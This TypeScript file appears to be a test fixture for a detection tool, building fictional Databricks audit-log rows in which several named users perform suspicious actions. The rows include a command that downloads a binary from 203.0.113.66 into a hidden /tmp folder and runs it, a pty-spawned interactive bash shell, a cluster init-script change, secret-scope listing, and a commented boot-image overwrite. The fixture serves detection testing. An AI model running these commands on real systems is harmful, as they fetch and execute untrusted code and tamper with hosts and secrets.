import type { AuditRow } from "detectform/model";
import { ROOT_SCRIPT } from "./clusters.ts";
import { CLUSTERS, TRAINING, WAREHOUSE } from "./machines.ts";
import { NOOR_AT_NIGHT, PEOPLE, type Person } from "./people.ts";
import { audited, by } from "./rows.ts";
import { at } from "./time.ts";
import { switchedOn } from "./verbose.ts";

/** Who did what around the incidents, so that each can be walked back from its host to a person. */
export function story(): AuditRow[] {
  return [...night(), ...certificates(), ...shell(), ...training(), ...warehouse()];
}

type Params = Readonly<Record<string, string>>;

function does(person: Person, time: string, [service, action, request_params]: [string, string, Params]) {
  const session_id = `session-${person.ip}`;
  return audited(service, action, { ...by(person), session_id, event_time: at(time), request_params });
}

const signsIn = (person: Person, time: string) =>
  does(person, time, ["accounts", "login", { user: person.email, authenticationMethod: "PASSWORD" }]);

function attaches(person: Person, time: string) {
  const { id, name } = CLUSTERS[person.cluster];
  const params = { notebookId: person.notebook, clusterId: id, clusterName: name };
  return does(person, time, ["notebook", "attachNotebook", params]);
}

/** A command as verbose audit logs record it. */
function runs(person: Person, time: string, commandText: string) {
  const params = {
    notebookId: person.notebook,
    commandId: `80000000000${time.replaceAll(":", "")}`,
    commandLanguage: commandText.startsWith("%sh") ? "shell" : "python",
    commandText,
    executionTime: "1.2",
    status: "finished",
  };
  return does(person, time, ["notebook", "runCommand", params]);
}

function night(): AuditRow[] {
  const noor = NOOR_AT_NIGHT;
  return [
    signsIn(noor, "01:52:10"),
    attaches(noor, "01:58:31"),
    runs(noor, "02:03:12", "dbutils.fs.ls('/')"),
    runs(noor, "02:08:45", "%sh id; uname -a; mount | head"),
    runs(noor, "02:11:48", "%sh mkdir -p /tmp/.x && curl -so /tmp/.x/run http://203.0.113.66/run"),
    runs(noor, "02:12:03", "%sh chmod +x /tmp/.x/run && /tmp/.x/run --quiet"),
    runs(noor, "02:16:20", "dbutils.secrets.listScopes()"),
  ];
}

function certificates(): AuditRow[] {
  const { pavel } = PEOPLE;
  const cluster = { cluster_id: CLUSTERS.tools.id, cluster_name: CLUSTERS.tools.name };
  return [
    signsIn(pavel, "09:27:50"),
    does(pavel, "09:31:14", [
      "clusters",
      "edit",
      { ...cluster, init_scripts: `[{"volumes":"${ROOT_SCRIPT.path}"}]` },
    ]),
    attaches(pavel, "09:43:05"),
    runs(pavel, "09:44:20", "%sh curl -sI https://packages.test | head -1"),
  ];
}

function shell(): AuditRow[] {
  const { lena } = PEOPLE;
  return [
    attaches(lena, "12:58:37"),
    runs(lena, "13:01:30", "df = spark.table('ml.features.daily')"),
    runs(lena, "13:05:18", "import pty; pty.spawn(['/bin/bash', '-i'])"),
    // What she types at 13:19:52, `%sh cp /tmp/initrd.img /boot/initrd.img`, nobody records.
    switchedOn(),
  ];
}

function training(): AuditRow[] {
  const { mateo } = PEOPLE;
  const run = { ...TRAINING, clusterId: CLUSTERS.training.id };
  const commandText = "%sh sudo modprobe peermem";
  return [
    does(mateo, "16:09:12", ["jobs", "runNow", TRAINING]),
    does(mateo, "16:16:02", ["jobs", "runStart", run]),
    does(mateo, "16:25:16", ["jobs", "runCommand", { ...TRAINING, commandText, status: "finished" }]),
    does(mateo, "17:16:05", ["jobs", "runSucceeded", run]),
  ];
}

function warehouse(): AuditRow[] {
  const { omar } = PEOPLE;
  const commandText = "select * from read_files('s3://landing.example.test/orders/')";
  const command = { warehouseId: WAREHOUSE, commandId: "80000000000204702" };
  return [
    does(omar, "20:47:02", ["databrickssql", "commandSubmit", { ...command, commandText }]),
    does(omar, "20:48:15", ["databrickssql", "commandFinish", command]),
  ];
}
